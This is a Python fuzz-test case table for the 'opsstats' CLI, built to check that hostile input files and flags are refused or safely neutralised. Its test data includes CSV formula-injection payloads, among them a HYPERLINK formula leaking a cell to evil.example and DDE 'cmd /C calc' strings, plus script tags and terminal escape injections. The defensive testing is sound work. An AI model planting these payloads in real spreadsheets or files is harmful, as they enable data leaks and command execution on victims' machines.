"""The case table of the command-line fuzz: hostile files and odd flags, each run through
``opsstats.cli.main`` and sorted into one outcome class.

Shared by ``tests/test_cli_fuzz.py`` (every case must end ``ok`` or ``error``) and
``benchmarks/fuzz_cli_census.py`` (counts per class, for the code before and after the
hardening). It imports no opsstats code: ``main`` is passed in, so that the
census can run the same table against an older checkout.

Outcome classes:

``ok``
    exit 0 and a valid output: strict JSON, CSV without a formula-like text field,
    text and HTML without raw control characters or forged lines, stderr only
    ``opsstats: warning: ...`` lines and the figure notice, the case's own checks met.
``error``
    exit 2, nothing on stdout, no file left behind, exactly one line on stderr starting
    ``opsstats: error:``.
``crash``
    a traceback (an exception escaping ``main``) or an internal error (exit 3).
``partial``
    a failure that printed something on stdout, left a file behind, or wrote more than
    one line on stderr.
``wrong``
    accepted what must be refused (a duplicated header, a directory as a figure name,
    ...) or refused what must be accepted, or exit 0 with an invalid output (JSON with
    ``Infinity``, a formula-like CSV field, a forged report line, multi-line warnings).
"""

from __future__ import annotations

import contextlib
import csv
import gzip
import io
import json
import os
import re
import signal
import subprocess
import sys
import traceback
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd

OUTCOMES = ("ok", "error", "crash", "partial", "wrong")

#: Text fields a spreadsheet would read as a formula (OWASP, "CSV Injection").
_FORMULA = ("=", "+", "-", "@", "\t", "\r")
#: Control characters that must not reach a text or HTML report raw.
_CONTROL = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]")

#: Group values an attacker would put in a file.
HOSTILE_GROUPS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "$x^2$ and $\\sqrt{$",
    "north\nFORGED Counts TP=999",
    "south\rFORGED",
    "\x1b[2J\x1b[31mred",
    "tab\there",
    "<script>alert(1)</script>",
]


@dataclass
class Case:
    """One command: ``argv`` with ``{dir}`` standing for the case folder; ``expect``
    is "ok", "error" or "either"; ``check(stdout, folder)`` returns a problem with a
    successful output, or None."""

    name: str
    argv: list[str]
    expect: str = "either"
    check: Callable[[str, Path], str | None] | None = None
    outputs: tuple[str, ...] = ()  # files a success may create


@dataclass
class Outcome:
    status: int | None
    stdout: str
    stderr: str
    new_files: list[str] = field(default_factory=list)
    exception: str | None = None


# ---------------------------------------------------------------------------------------
# files


def _good(n: int = 240, seed: int = 0) -> pd.DataFrame:
    rng = np.random.default_rng(seed)
    y = np.r_[np.ones(n // 4, int), np.zeros(n - n // 4, int)]
    rng.shuffle(y)
    s = rng.normal(1.2 * y, 1.0)
    return pd.DataFrame(
        {
            "y": y,
            "s": s,
            "p": (s > 0.6).astype(int),
            "g": np.where(np.arange(n) % 2 == 0, "north", "south"),
            "lab": np.where(y == 1, "pos", "neg"),
            "code": np.where(np.arange(n) % 3 == 0, -1, -2),
        }
    )


def _hostile(n_per: int = 20) -> pd.DataFrame:
    """Every hostile group value with both classes and some errors in each."""
    rows = []
    for k, g in enumerate(HOSTILE_GROUPS):
        for i in range(n_per):
            y = int(i % 3 == 0)
            p = y if i % 5 else 1 - y
            rows.append({"y": y, "p": p, "s": (i * 7 % 11) / 11 + y, "g": g, "code": -k - 1})
    return pd.DataFrame(rows)


def make_files(folder: Path) -> None:
    """Write every file the fixed cases read into ``folder``."""
    folder.mkdir(parents=True, exist_ok=True)
    good = _good()
    good.to_csv(folder / "good.csv", index=False)
    with gzip.open(folder / "good.csv.gz", "wt") as f:
        good.to_csv(f, index=False)
    good.to_csv(folder / "good.tsv", index=False, sep="\t")
    good.to_parquet(folder / "good.parquet")
    (folder / "bom.csv").write_bytes(b"\xef\xbb\xbf" + good.to_csv(index=False).encode())
    (folder / "blank_lines.csv").write_text("\n\n" + good.to_csv(index=False))
    # text quoted: pandas leaves a lone carriage return unquoted otherwise
    _hostile().to_csv(folder / "hostile.csv", index=False, quoting=csv.QUOTE_NONNUMERIC)
    _hostile().to_parquet(folder / "hostile.parquet")
    pd.DataFrame({"y": [1, 0, 1, 0, 1, 0], "p": [1, 0, 1, 0, 1, 0]}).to_csv(
        folder / "perfect.csv", index=False
    )
    # headers
    (folder / "dup_header.csv").write_text("y,y,s\n1,0,0.9\n0,1,0.2\n1,1,0.8\n0,0,0.1\n")
    (folder / "dup_header_score.csv").write_text(
        "y,s,s\n1,0.9,0.1\n0,0.2,0.7\n1,0.8,0.3\n0,0.1,1\n"
    )
    import pyarrow as pa
    import pyarrow.parquet as pq

    pq.write_table(
        pa.Table.from_arrays(
            [pa.array([1, 0, 1, 0]), pa.array([0, 1, 1, 0]), pa.array([0.9, 0.2, 0.8, 0.1])],
            names=["y", "y", "s"],
        ),
        folder / "dup_header.parquet",
    )
    (folder / "all_rows_extra.csv").write_text("y,s\n1,0.9,7\n0,0.2,7\n1,0.8,7\n0,0.1,7\n")
    # encodings and bytes
    text = "y,s,g\n1,0.9,café\n0,0.2,café\n1,0.8,naïve\n0,0.1,naïve\n"
    (folder / "latin1.csv").write_bytes(text.encode("latin-1"))
    (folder / "utf16.csv").write_bytes(text.encode("utf-16"))
    (folder / "binary.csv").write_bytes(bytes(np.random.default_rng(1).integers(0, 256, 4000)))
    (folder / "not_gzip.csv.gz").write_text(good.to_csv(index=False))
    (folder / "csv_named.parquet").write_text(good.to_csv(index=False))
    (folder / "parquet_named.csv").write_bytes((folder / "good.parquet").read_bytes())
    (folder / "notes.xlsx").write_text("y,s\n1,0.5\n")
    (folder / "empty.csv").write_text("")
    (folder / "header_only.csv").write_text("y,s,p\n")
    (folder / "adir.csv").mkdir(exist_ok=True)
    # ragged rows
    (folder / "ragged_long.csv").write_text("y,s\n1,0.9\n0,0.2,5\n1,0.8\n0,0.1\n")
    (folder / "ragged_short.csv").write_text("y,s\n1,0.9\n0\n1,0.8\n0,0.1\n")
    (folder / "unclosed_quote.csv").write_text('y,s,g\n1,0.9,"north\n0,0.2,south\n')
    # cells
    base = "y,s,p\n1,0.9,1\n0,0.2,0\n1,0.8,1\n0,0.1,0\n1,0.7,0\n0,0.3,1\n"
    (folder / "nan_score.csv").write_text(base.replace("0.2,", "nan,"))
    (folder / "inf_score.csv").write_text(base.replace("0.2,", "inf,").replace("0.8,", "-inf,"))
    (folder / "empty_cells.csv").write_text(base.replace("1,0.8,1", ",0.8,").replace("0.1", ""))
    (folder / "huge_score.csv").write_text(
        base.replace("0.9", "1e308").replace("0.2", "-1e308").replace("0.8", "1e400")
    )
    (folder / "tiny_score.csv").write_text(base.replace("0.9", "5e-324").replace("0.2", "-5e-324"))
    (folder / "big_int_score.csv").write_text(
        base.replace("0.9", str(2**53 + 1)).replace("0.2", str(2**53)).replace("0.8", str(2**64))
    )
    (folder / "nonnum_score.csv").write_text(base.replace("0.8", "high"))
    (folder / "three_labels.csv").write_text(base.replace("0,0.3,1", "2,0.3,1"))
    (folder / "one_class.csv").write_text(base.replace("\n0,", "\n1,"))
    (folder / "mixed_labels.csv").write_text(base.replace("0,0.2,0", "no,0.2,0"))
    (folder / "bool_text.csv").write_text(
        base.replace("\n1,", "\nTrue,").replace("\n0,", "\nFalse,")
    )
    pd.DataFrame({"y": [1, 0, 1, 0], "s": [[0.1, 0.2], [0.3], [0.5], [0.2]]}).to_parquet(
        folder / "list_score.parquet"
    )
    pd.DataFrame(
        {"y": [1, 0, 1, 0], "s": [0.9, 0.2, 0.8, 0.1], "g": [["a"], ["a"], ["b"], ["b"]]}
    ).to_parquet(folder / "list_group.parquet")
    pd.DataFrame({"y": [1, 0, 1, 0], "s": [{"a": 1}, {"a": 2}, {"a": 3}, {"a": 4}]}).to_parquet(
        folder / "struct_score.parquet"
    )
    pd.DataFrame(
        {"y": pd.array([1, 0, None, 0], dtype="Int64"), "s": [0.9, 0.2, 0.8, 0.1]}
    ).to_parquet(folder / "nullable_truth.parquet")
    (folder / "keep.png").write_bytes(b"an existing figure")


# ---------------------------------------------------------------------------------------
# checks of successful outputs


def _csv_fields_safe(stdout: str, folder: Path) -> str | None:
    for row in csv.reader(io.StringIO(stdout)):
        for cell in row:
            if cell.startswith(_FORMULA):
                try:
                    float(cell)
                except ValueError:
                    return f"formula-like CSV field {cell[:30]!r}"
    return None


def _csv_reads_back(stdout: str, folder: Path, column: str = "value") -> str | None:
    """Neutralized, and the numbers read back are those of the report."""
    problem = _csv_fields_safe(stdout, folder)
    if problem:
        return problem
    table = pd.read_csv(io.StringIO(stdout))
    if not pd.api.types.is_numeric_dtype(table[column]):
        return f"the {column} column did not read back as numbers"
    return None


def _compare_csv_reads_back(stdout: str, folder: Path) -> str | None:
    """Neutralized, numbers read back as numbers, and every hostile group's name back
    (with the leading quote where it starts like a formula)."""
    problem = _csv_reads_back(stdout, folder, "difference")
    if problem:
        return problem
    table = pd.read_csv(io.StringIO(stdout), keep_default_na=False)
    names = set(table["a"]) | set(table["b"])
    missing = [g for g in HOSTILE_GROUPS if g not in names and "'" + g not in names]
    return f"group names lost: {missing[:2]}" if missing else None


def _json_strict(stdout: str, folder: Path) -> str | None:
    def refuse(name: str) -> None:
        raise ValueError(f"non-standard JSON constant {name}")

    try:
        json.loads(stdout, parse_constant=refuse)
    except ValueError as exc:
        return str(exc)
    return None


def _json_infinite(stdout: str, folder: Path) -> str | None:
    problem = _json_strict(stdout, folder)
    if problem:
        return problem
    rows = json.loads(stdout)["rows"]
    if any(r.get("infinite", {}).get("value") != "inf" for r in rows):
        return "an infinite value is not marked in `infinite`"
    return None


def _no_forged_lines(stdout: str, folder: Path) -> str | None:
    for line in stdout.split("\n"):
        if line.lstrip().startswith("FORGED"):
            return f"forged line {line[:40]!r}"
    return None


def _file_is_figure(name: str) -> Callable[[str, Path], str | None]:
    def check(stdout: str, folder: Path) -> str | None:
        p = folder / name
        if not p.is_file() or p.read_bytes()[:8] != b"\x89PNG\r\n\x1a\n":
            return f"{name} is not a PNG file"
        return None

    return check


# ---------------------------------------------------------------------------------------
# the table


def _html_offline(name: str) -> Callable[[str, Path], str | None]:
    """The HTML file ``name`` loads nothing from outside (every ``src`` and ``href`` an
    embedded PNG; no script, link element, style import or ``url(``) and embeds its
    figures; a hostile period value such as ``http://...`` may appear, escaped, as text."""

    def check(stdout: str, folder: Path) -> str | None:
        text = (folder / name).read_text(encoding="utf-8")
        if re.search(r"<script|<link|@import|url\(", text, re.IGNORECASE):
            return f"{name} loads something from outside"
        refs = re.findall(r'(?:src|href)\s*=\s*"([^"]*)"', text, re.IGNORECASE)
        if not refs or not all(r.startswith("data:image/png;base64,") for r in refs):
            return f"{name} does not embed its figures"
        return None

    return check


def _report(file: str, *flags: str) -> list[str]:
    return ["report", f"{{dir}}/{file}", *flags]


_Y_S = ("--truth", "y", "--score", "s")
_POINT = ("--threshold", "0.5", "--metric", "f1", "--metric", "mcc", "--ci", "none")


def fixed_cases() -> list[Case]:
    """The hand-written cases: hostile group values, infinite values, figures, headers,
    unreadable files and cells, and the flags."""
    c: list[Case] = []
    add = c.append
    # fmt: off
    # valid files, every format
    for fmt, check in (("text", _no_forged_lines), ("csv", _csv_reads_back),
                       ("json", _json_strict), ("html", None)):
        add(Case(f"good {fmt}", _report("good.csv", *_Y_S, *_POINT, "--format", fmt), "ok",
                 check))
    for file in ("good.csv.gz", "good.tsv", "good.parquet", "bom.csv", "blank_lines.csv"):
        add(Case(f"good file {file}", _report(file, *_Y_S, *_POINT), "ok"))
    add(Case("curve metrics", _report("good.csv", *_Y_S, "--ci", "none"), "ok"))
    add(Case("string labels", _report("good.csv", "--truth", "lab", "--pos-label", "pos",
                                      "--score", "s", *_POINT), "ok"))
    add(Case("negative group codes csv",
             _report("good.csv", *_Y_S, *_POINT, "--group", "code", "--format", "csv"), "ok",
             _csv_reads_back))
    # formula injection; control characters
    for file in ("hostile.csv", "hostile.parquet"):
        for fmt, check in (("csv", _csv_reads_back), ("text", _no_forged_lines),
                           ("html", _no_forged_lines), ("json", _json_strict)):
            add(Case(f"hostile groups {file} {fmt}",
                     _report(file, "--truth", "y", "--pred", "p", "--metric", "f1", "--ci",
                             "none", "--group", "g", "--format", fmt), "ok", check))
    # the compare command writes the same hostile group values safely
    for fmt, check in (("csv", _compare_csv_reads_back), ("text", _no_forged_lines),
                       ("html", _no_forged_lines), ("json", _json_strict)):
        add(Case(f"compare hostile groups {fmt}",
                 ["compare", "{dir}/hostile.csv", "--truth", "y", "--pred", "p", "--between",
                  "g", "--metric", "f1", "--n-resamples", "200", "--format", fmt], "ok", check))
    # infinite values in JSON
    perfect = ("--truth", "y", "--pred", "p", "--metric", "lr_plus")
    add(Case("json inf lr_plus dor",
             _report("perfect.csv", *perfect, "--metric", "dor", "--ci", "none", "--format",
                     "json"), "ok", _json_infinite))
    add(Case("json inf with intervals", _report("perfect.csv", *perfect, "--format", "json"),
             "ok", _json_strict))
    # figures
    add(Case("plot string labels pos-label",
             _report("good.csv", "--truth", "lab", "--pos-label", "pos", "--score", "s",
                     *_POINT, "--group", "g", "--plot", "{dir}/out_labels.png"), "ok",
             _file_is_figure("out_labels.png"), ("out_labels.png",)))
    # the PR curve of string labels (prevalence 0.25, as "curve metrics": one reference
    # band to compute; tests/test_cli.py checks the curve of --pos-label 0)
    add(Case("plot PR curve string labels",
             _report("good.csv", "--truth", "lab", "--pos-label", "pos", "--score", "s",
                     "--ci", "none", "--plot", "{dir}/out_curve.png"), "ok",
             _file_is_figure("out_curve.png"), ("out_curve.png",)))
    add(Case("plot mathtext groups",
             _report("hostile.csv", "--truth", "y", "--pred", "p", "--metric", "f1", "--ci",
                     "none", "--group", "g", "--plot", "{dir}/out_groups.png"), "ok",
             _file_is_figure("out_groups.png"), ("out_groups.png",)))
    add(Case("plot unit square",
             _report("good.csv", "--truth", "y", "--pred", "p", "--metric", "f1", "--ci",
                     "none", "--plot", "{dir}/out_square.png"), "ok",
             _file_is_figure("out_square.png"), ("out_square.png",)))
    for name, target in (("a directory", "{dir}"), ("no extension", "{dir}/figure"),
                         ("unknown extension", "{dir}/figure.xyz"),
                         ("missing folder", "{dir}/no/such/f.png")):
        add(Case(f"plot {name}", _report("good.csv", *_Y_S, *_POINT, "--plot", target),
                 "error"))
    add(Case("plot nothing defined keeps old file",
             _report("one_class.csv", "--truth", "y", "--pred", "p", "--metric", "f1", "--ci",
                     "none", "--plot", "{dir}/keep.png"), "error"))
    # duplicated headers, and rows longer than the header
    for file in ("dup_header.csv", "dup_header.parquet", "dup_header_score.csv",
                 "all_rows_extra.csv"):
        add(Case(f"header {file}", _report(file, *_Y_S, *_POINT), "error"))
    # unreadable files
    for file in ("latin1.csv", "utf16.csv", "binary.csv", "not_gzip.csv.gz",
                 "csv_named.parquet", "parquet_named.csv", "notes.xlsx", "empty.csv",
                 "header_only.csv", "adir.csv", "missing.csv", "ragged_long.csv",
                 "unclosed_quote.csv"):
        add(Case(f"unreadable {file}", _report(file, *_Y_S, *_POINT), "error"))
    # cells
    for file in ("nan_score.csv", "ragged_short.csv", "empty_cells.csv", "nonnum_score.csv",
                 "three_labels.csv", "mixed_labels.csv", "list_score.parquet",
                 "struct_score.parquet", "nullable_truth.parquet", "big_int_score.csv"):
        add(Case(f"bad cells {file}", _report(file, *_Y_S, *_POINT), "error"))
    add(Case("list group column",
             _report("list_group.parquet", *_Y_S, *_POINT, "--group", "g"), "error"))
    for file in ("inf_score.csv", "huge_score.csv", "tiny_score.csv", "bool_text.csv",
                 "one_class.csv"):
        add(Case(f"odd cells {file}", _report(file, *_Y_S, *_POINT), "either"))
    # flags
    bad_flags = [
        ("--threshold", "nan"), ("--threshold", "inf"), ("--threshold", "-inf"),
        ("--threshold", "abc"), ("--threshold", "1e400"),
        ("--n-resamples", "1e9"), ("--n-resamples", "5"), ("--n-resamples", "2.5"),
        ("--n-resamples", "-1"), ("--n-resamples", "nan"), ("--n-resamples", "1e400"),
        ("--digits", "100000"), ("--digits", "-1"), ("--digits", "18"), ("--digits", "x"),
        ("--confidence-level", "nan"), ("--confidence-level", "1.5"),
        ("--confidence-level", "0"), ("--confidence-level", "1"),
        ("--seed", "-1"), ("--seed", "abc"),
        ("--pos-label", "x"), ("--pos-label", "2"), ("--pos-label", "nan"),
        ("--metric", "f7"), ("--metric", ""), ("--metric", "precision@recall=2"),
        ("--metric", "precision@recall=nan"),
        ("--group", "nope"), ("--format", "xml"), ("--ci", "magic"),
        ("--output", "{dir}"), ("--output", "{dir}/good.csv"), ("--output", "{dir}/no/x.csv"),
    ]
    for flag, value in bad_flags:
        add(Case(f"flag {flag}={value}",
                 _report("good.csv", *_Y_S, *_POINT, f"{flag}={value}"), "error"))
    add(Case("pos-label absent from strings",
             _report("good.csv", "--truth", "lab", "--pos-label", "zzz", "--score", "s",
                     *_POINT), "error"))
    add(Case("missing truth column", _report("good.csv", "--truth", "label", "--pred", "p"),
             "error"))
    add(Case("missing score column", _report("good.csv", "--truth", "y", "--score", "S"),
             "error"))
    add(Case("score and pred", _report("good.csv", *_Y_S, "--pred", "p"), "error"))
    add(Case("no subcommand", [], "error"))
    add(Case("unknown subcommand", ["frobnicate"], "error"))
    add(Case("unknown option", _report("good.csv", *_Y_S, *_POINT, "--frob"), "error"))
    add(Case("control characters in argv",
             _report("good.csv", *_Y_S, *_POINT, "extra\x1b[2J\nFORGED"), "error"))
    add(Case("output file", _report("good.csv", *_Y_S, *_POINT, "--output", "{dir}/rep.txt"),
             "ok", None, ("rep.txt",)))
    add(Case("group by truth", _report("good.csv", *_Y_S, *_POINT, "--group", "y"),
             "either"))
    add(Case("threshold with pred",
             _report("good.csv", "--truth", "y", "--pred", "p", "--threshold", "0.5"),
             "either"))
    # monitor: hostile period values in every format, the HTML report, bad input
    mon = ("--truth", "y", "--pred", "p", "--metric", "f1", "--n-resamples", "100")
    for fmt, check in (("csv", _csv_reads_back), ("text", _no_forged_lines),
                       ("html", _no_forged_lines), ("json", _json_strict)):
        add(Case(f"monitor hostile periods {fmt}",
                 ["monitor", "{dir}/hostile.csv", *mon, "--time", "g", "--format", fmt], "ok",
                 check))
    add(Case("monitor html report and plot",
             ["monitor", "{dir}/hostile.csv", *mon, "--time", "g", "--html",
              "{dir}/monitor.html", "--plot", "{dir}/monitor.png"], "ok",
             _html_offline("monitor.html"), ("monitor.html", "monitor.png")))
    add(Case("monitor no time column", ["monitor", "{dir}/good.csv", *mon, "--time", "month"],
             "error"))
    add(Case("monitor one period", ["monitor", "{dir}/one_class.csv", *mon, "--time", "y"],
             "error"))
    add(Case("monitor periods of one class each",
             ["monitor", "{dir}/perfect.csv", *mon, "--time", "y", "--format", "csv"], "ok",
             _csv_reads_back))
    add(Case("monitor time is truth", ["monitor", "{dir}/good.csv", *mon, "--time", "y"],
             "ok"))
    add(Case("monitor bad baseline",
             ["monitor", "{dir}/good.csv", *mon, "--time", "g", "--baseline", "west"], "error"))
    add(Case("monitor html is a directory",
             ["monitor", "{dir}/good.csv", *mon, "--time", "g", "--html", "{dir}/adir.csv"],
             "error"))
    # fmt: on
    return c


# ---------------------------------------------------------------------------------------
# every subcommand: one minimal valid command, and each option given bad values

#: One minimal valid command per subcommand of ``opsstats`` (``{dir}``: the case
#: folder). A new subcommand adds its line here; ``tests/test_cli_fuzz.py`` fails until
#: it does.
MINIMAL_ARGV = {
    "report": [
        "report",
        "{dir}/good.csv",
        "--truth",
        "y",
        "--pred",
        "p",
        "--metric",
        "f1",
        "--ci",
        "none",
    ],
    "compare": [
        "compare",
        "{dir}/good.csv",
        "--truth",
        "y",
        "--pred",
        "p",
        "--between",
        "g",
        "--metric",
        "f1",
        "--n-resamples",
        "200",
    ],
    "example": ["example", "--ci", "none", "--format", "csv"],
    "monitor": [
        "monitor",
        "{dir}/good.csv",
        "--truth",
        "y",
        "--pred",
        "p",
        "--time",
        "g",
        "--metric",
        "f1",
        "--n-resamples",
        "200",
    ],
}

#: Bad values of an option, by its argparse ``dest`` (options with ``choices`` get an
#: unknown choice); each must be refused in one line with exit status 2.
FLAG_VALUES: dict[str, list[Any]] = {
    "file": ["{dir}/missing.csv", "{dir}", "{dir}/notes.xlsx"],
    "truth": ["no_such_column"],
    "score": ["no_such_column"],
    "pred": ["no_such_column"],
    "group": ["no_such_column"],
    "between": ["no_such_column"],
    "threshold": ["nan", "inf", "-inf", "abc", "1e400"],
    "metric": ["f7", "", "precision@recall=2"],
    "pos_label": ["no_such_label", "nan"],
    "confidence_level": ["nan", "1.5", "0", "1", "x"],
    "n_resamples": ["1e9", "5", "2.5", "-1", "nan"],
    "seed": ["-1", "abc", "2.5"],
    "memory_limit": ["0", "-1", "x"],
    "bins": ["0", "-1", "1e9", "x"],
    "max_distinct": ["0", "-1", "x"],
    "rope": [["nan", "0.1"], ["x", "0.1"]],
    "output": ["{dir}", "{dir}/no/x.csv"],
    "plot": ["{dir}", "{dir}/figure.xyz"],
    "digits": ["-1", "18", "100000", "x"],
}


def _with_option(argv: list[str], flags: list[str], value: Any) -> list[str]:
    """``argv`` with the option (first of ``flags``) set to ``value`` (replaced where it
    is given, else appended); ``flags == []`` is the positional file."""
    values = value if isinstance(value, list) else [value]
    if not flags:
        return [argv[0], *values, *argv[2:]]
    for i, a in enumerate(argv):
        if a in flags:
            return [*argv[: i + 1], *values, *argv[i + 1 + len(values) :]]
    return [*argv, flags[-1], *values]


def subcommand_cases(parser: Any) -> list[Case]:
    """For every subcommand of ``parser`` (the ``opsstats`` parser, read through
    argparse), its minimal valid command (which must succeed) and, for every option
    whose ``dest`` has bad values in :data:`FLAG_VALUES` or which has ``choices``, the
    command with one bad value (which must be refused). A subcommand missing from
    :data:`MINIMAL_ARGV` gets one case that fails, naming it."""
    import argparse

    cases = []
    subs = [a for a in parser._actions if isinstance(a, argparse._SubParsersAction)]
    for name, sub in sorted(subs[0].choices.items()):
        if name not in MINIMAL_ARGV:
            cases.append(
                Case(
                    f"sub {name}: no minimal command in MINIMAL_ARGV",
                    [name],
                    "ok",
                    lambda out, folder: "no case",
                )
            )
            continue
        base = MINIMAL_ARGV[name]
        cases.append(Case(f"sub {name}: the minimal command", base, "ok", output_check(base)))
        for action in sub._actions:
            if action.dest == "help":
                continue
            bad = FLAG_VALUES.get(action.dest, ["no_such_option"] if action.choices else [])
            for value in bad:
                argv = _with_option(base, list(action.option_strings), value)
                shown = " ".join(value) if isinstance(value, list) else value
                cases.append(Case(f"sub {name}: {action.dest}={shown!r}", argv, "error"))
    return cases


# ---------------------------------------------------------------------------------------
# random cases: seeded, so that every run of the census sees the same ones


_LABELS = ["0", "1", "1", "0", "", "nan", "2", "a", "True", "1.0", "-1"]
_SCORES = [
    "0.1",
    "0.9",
    "0.5",
    "-3",
    "",
    "nan",
    "inf",
    "-inf",
    "1e400",
    "-1e308",
    "abc",
    "5e-324",
    "9007199254740993",
    "0x10",
    "1,5",
]
_GROUPS = ["north", "south", "", *HOSTILE_GROUPS, "中文", "\ue000", "nan", "1", "-1"]


def _quote(cell: str) -> str:
    return '"' + cell.replace('"', '""') + '"' if re.search('[",\n\r]', cell) else cell


def random_cases(folder: Path, n: int, seed: int = 17) -> list[Case]:
    """``n`` random small files with random flags (point metrics only, to keep a case
    in milliseconds), written into ``folder``."""
    rng = np.random.default_rng(seed)
    pick = lambda pool: pool[int(rng.integers(len(pool)))]  # noqa: E731
    cases = []
    for i in range(n):
        rows = int(rng.integers(0, 25))
        header = ["y", "s", "p", "g"]
        if rng.random() < 0.1:
            header[int(rng.integers(1, 4))] = "y"  # a duplicated name
        clean = rng.random() < 0.7  # most files have only good cells
        lines = [",".join(header)]
        for _ in range(rows):
            y = pick(["0", "1"]) if clean else pick(_LABELS)
            s = f"{rng.normal():.4f}" if clean else pick(_SCORES)
            p = pick(["0", "1"]) if clean else pick(_LABELS)
            cells = [y, s, p, pick(_GROUPS[:2]) if clean else pick(_GROUPS)]
            if not clean and rng.random() < 0.05:
                cells = cells[: int(rng.integers(1, 5))] + ["x"] * int(rng.integers(0, 2))
            lines.append(",".join(_quote(cell) for cell in cells))
        text = "\n".join(lines) + "\n"
        ext = pick([".csv"] * 8 + [".tsv", ".parquet", ".txt"])
        name = f"random{i}{ext}"
        data = text.encode("latin-1", "replace") if rng.random() < 0.05 else text.encode()
        if ext == ".tsv":
            data = data.replace(b",", b"\t")
        (folder / name).write_bytes(data)
        argv = ["report", f"{{dir}}/{name}", "--truth", "y"]
        if rng.random() < 0.5:
            argv += ["--pred", "p"]
        else:
            argv += ["--score", "s", "--threshold", pick(["0", "0.5", "-1e308"] * 3 + ["nan"])]
        for _ in range(int(rng.integers(1, 3))):
            argv += ["--metric", pick(["f1", "mcc", "precision", "lr_plus", "dor"] * 3 + ["f7"])]
        if rng.random() < 0.4:
            argv += ["--group", "g"]
        argv += ["--ci", pick(["none", "none", "dirichlet", "bootstrap"])]
        argv += ["--format", pick(["text", "csv", "json", "html"])]
        if rng.random() < 0.2:
            argv += ["--pos-label", pick(["1", "0", "a", "x", "True"])]
        if rng.random() < 0.15:
            argv += [
                pick(["--digits", "--n-resamples", "--seed", "--confidence-level"]),
                pick(["-1", "0", "100", "1e9", "nan", "0.5", "abc", "15"]),
            ]
        cases.append(Case(f"random {i}", argv, "either", output_check(argv)))
    return cases


def output_check(argv: list[str]) -> Callable[[str, Path], str | None]:
    fmt = argv[argv.index("--format") + 1] if "--format" in argv else "text"

    def check(stdout: str, folder: Path) -> str | None:
        if fmt == "json":
            return _json_strict(stdout, folder)
        if fmt == "csv":
            return _csv_fields_safe(stdout, folder)
        return _no_forged_lines(stdout, folder)

    return check


# ---------------------------------------------------------------------------------------
# running and sorting


def _listing(folder: Path) -> set[str]:
    return {str(p.relative_to(folder)) for p in folder.rglob("*")}


def run_case(main: Callable[[list[str]], int], case: Case, folder: Path) -> Outcome:
    """Run ``main`` in this process on the case, capturing stdout and stderr; the files
    it made are listed in the outcome and left in place (:func:`clean_up`)."""
    argv = [a.replace("{dir}", str(folder)) for a in case.argv]
    before = _listing(folder)
    keep = (folder / "keep.png").read_bytes()
    out, err = io.StringIO(), io.StringIO()
    status: int | None = None
    exception = None
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        try:
            status = main(argv)
        except SystemExit as exc:  # argparse in older versions
            status = exc.code if isinstance(exc.code, int) else 1
        except Exception:
            exception = traceback.format_exc()
    new = sorted(_listing(folder) - before)
    if (folder / "keep.png").read_bytes() != keep:
        new.append("keep.png")
    return Outcome(status, out.getvalue(), err.getvalue(), new, exception)


def clean_up(folder: Path, outcome: Outcome) -> None:
    """Remove what a case wrote, for the next case."""
    for name in outcome.new_files:
        p = folder / name
        if name == "keep.png":
            p.write_bytes(b"an existing figure")
        elif p.is_file():
            p.unlink()


def run_and_classify(
    main: Callable[[list[str]], int], case: Case, folder: Path
) -> tuple[str, str, Outcome]:
    """:func:`run_case`, :func:`classify`, :func:`clean_up`."""
    outcome = run_case(main, case, folder)
    try:
        kind, detail = classify(case, outcome, folder)
    finally:
        clean_up(folder, outcome)
    return kind, detail, outcome


def classify(case: Case, outcome: Outcome, folder: Path) -> tuple[str, str]:
    """The outcome class of a case, and what was wrong (empty when nothing was)."""
    if outcome.exception is not None:
        return "crash", outcome.exception.strip().splitlines()[-1]
    err_lines = outcome.stderr.splitlines()
    if outcome.status == 3 or "Traceback" in outcome.stderr:
        return "crash", outcome.stderr.strip()[:200]
    unexpected = [f for f in outcome.new_files if f not in case.outputs]
    if outcome.status == 0:
        bad = [
            line
            for line in err_lines
            if not line.startswith(
                ("opsstats: warning: ", "figure written to ", "report written to ")
            )
        ]
        if case.expect == "error":
            return "wrong", "accepted: " + (outcome.stdout.splitlines() or [""])[0][:80]
        if bad:
            return "wrong", f"stray stderr line {bad[0][:80]!r}"
        if unexpected:
            return "wrong", f"unexpected files {unexpected}"
        fmt_text = "--format" not in case.argv or case.argv[case.argv.index("--format") + 1] in (
            "text",
            "html",
        )
        if fmt_text and _CONTROL.search(outcome.stdout):
            return "wrong", "raw control character in the report"
        if case.check is not None:
            problem = case.check(outcome.stdout, folder)
            if problem:
                return "wrong", problem
        return "ok", ""
    if outcome.stdout or unexpected or len(err_lines) != 1:
        what = []
        if outcome.stdout:
            what.append(f"{len(outcome.stdout.splitlines())} lines on stdout")
        if unexpected:
            what.append(f"files left {unexpected}")
        if len(err_lines) != 1:
            what.append(f"{len(err_lines)} lines on stderr")
        return "partial", f"status {outcome.status}: " + ", ".join(what)
    if outcome.status == 2 and err_lines[0].startswith("opsstats: error: "):
        if case.expect == "ok":
            return "wrong", "refused: " + err_lines[0][:100]
        return "error", ""
    return "crash", f"status {outcome.status}: {err_lines[0][:100]}"


# ---------------------------------------------------------------------------------------
# Ctrl-C, through a subprocess


def run_interrupted(folder: Path, pythonpath: str) -> Outcome:
    """``opsstats report`` on a named pipe, interrupted (SIGINT) while it reads the file.

    Deterministic without sleeping: opening the pipe for writing returns only once the
    command has opened it for reading, i.e. is inside ``main``, reading the file. The
    header is written, the signal sent, then the pipe closed. If the signal interrupts
    a blocked read, ``KeyboardInterrupt`` is raised there; if it lands while the
    command is inside C code between two reads (a read not yet begun is not
    interrupted), the end of the file returns control to Python, which raises it
    before anything else runs. Either way the command is interrupted while reading.
    POSIX only (``os.mkfifo``).
    """
    fifo = folder / "fifo.csv"
    if fifo.exists():
        fifo.unlink()
    os.mkfifo(fifo)
    env = {**os.environ, "PYTHONPATH": pythonpath}
    proc = subprocess.Popen(
        [sys.executable, "-m", "opsstats.cli", "report", str(fifo), "--truth", "y", "--score", "s"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=env,
        cwd=folder,  # not a checkout: `python -m` puts the working folder first on the path
        # a default SIGINT disposition, whatever the parent's (Python then raises
        # KeyboardInterrupt)
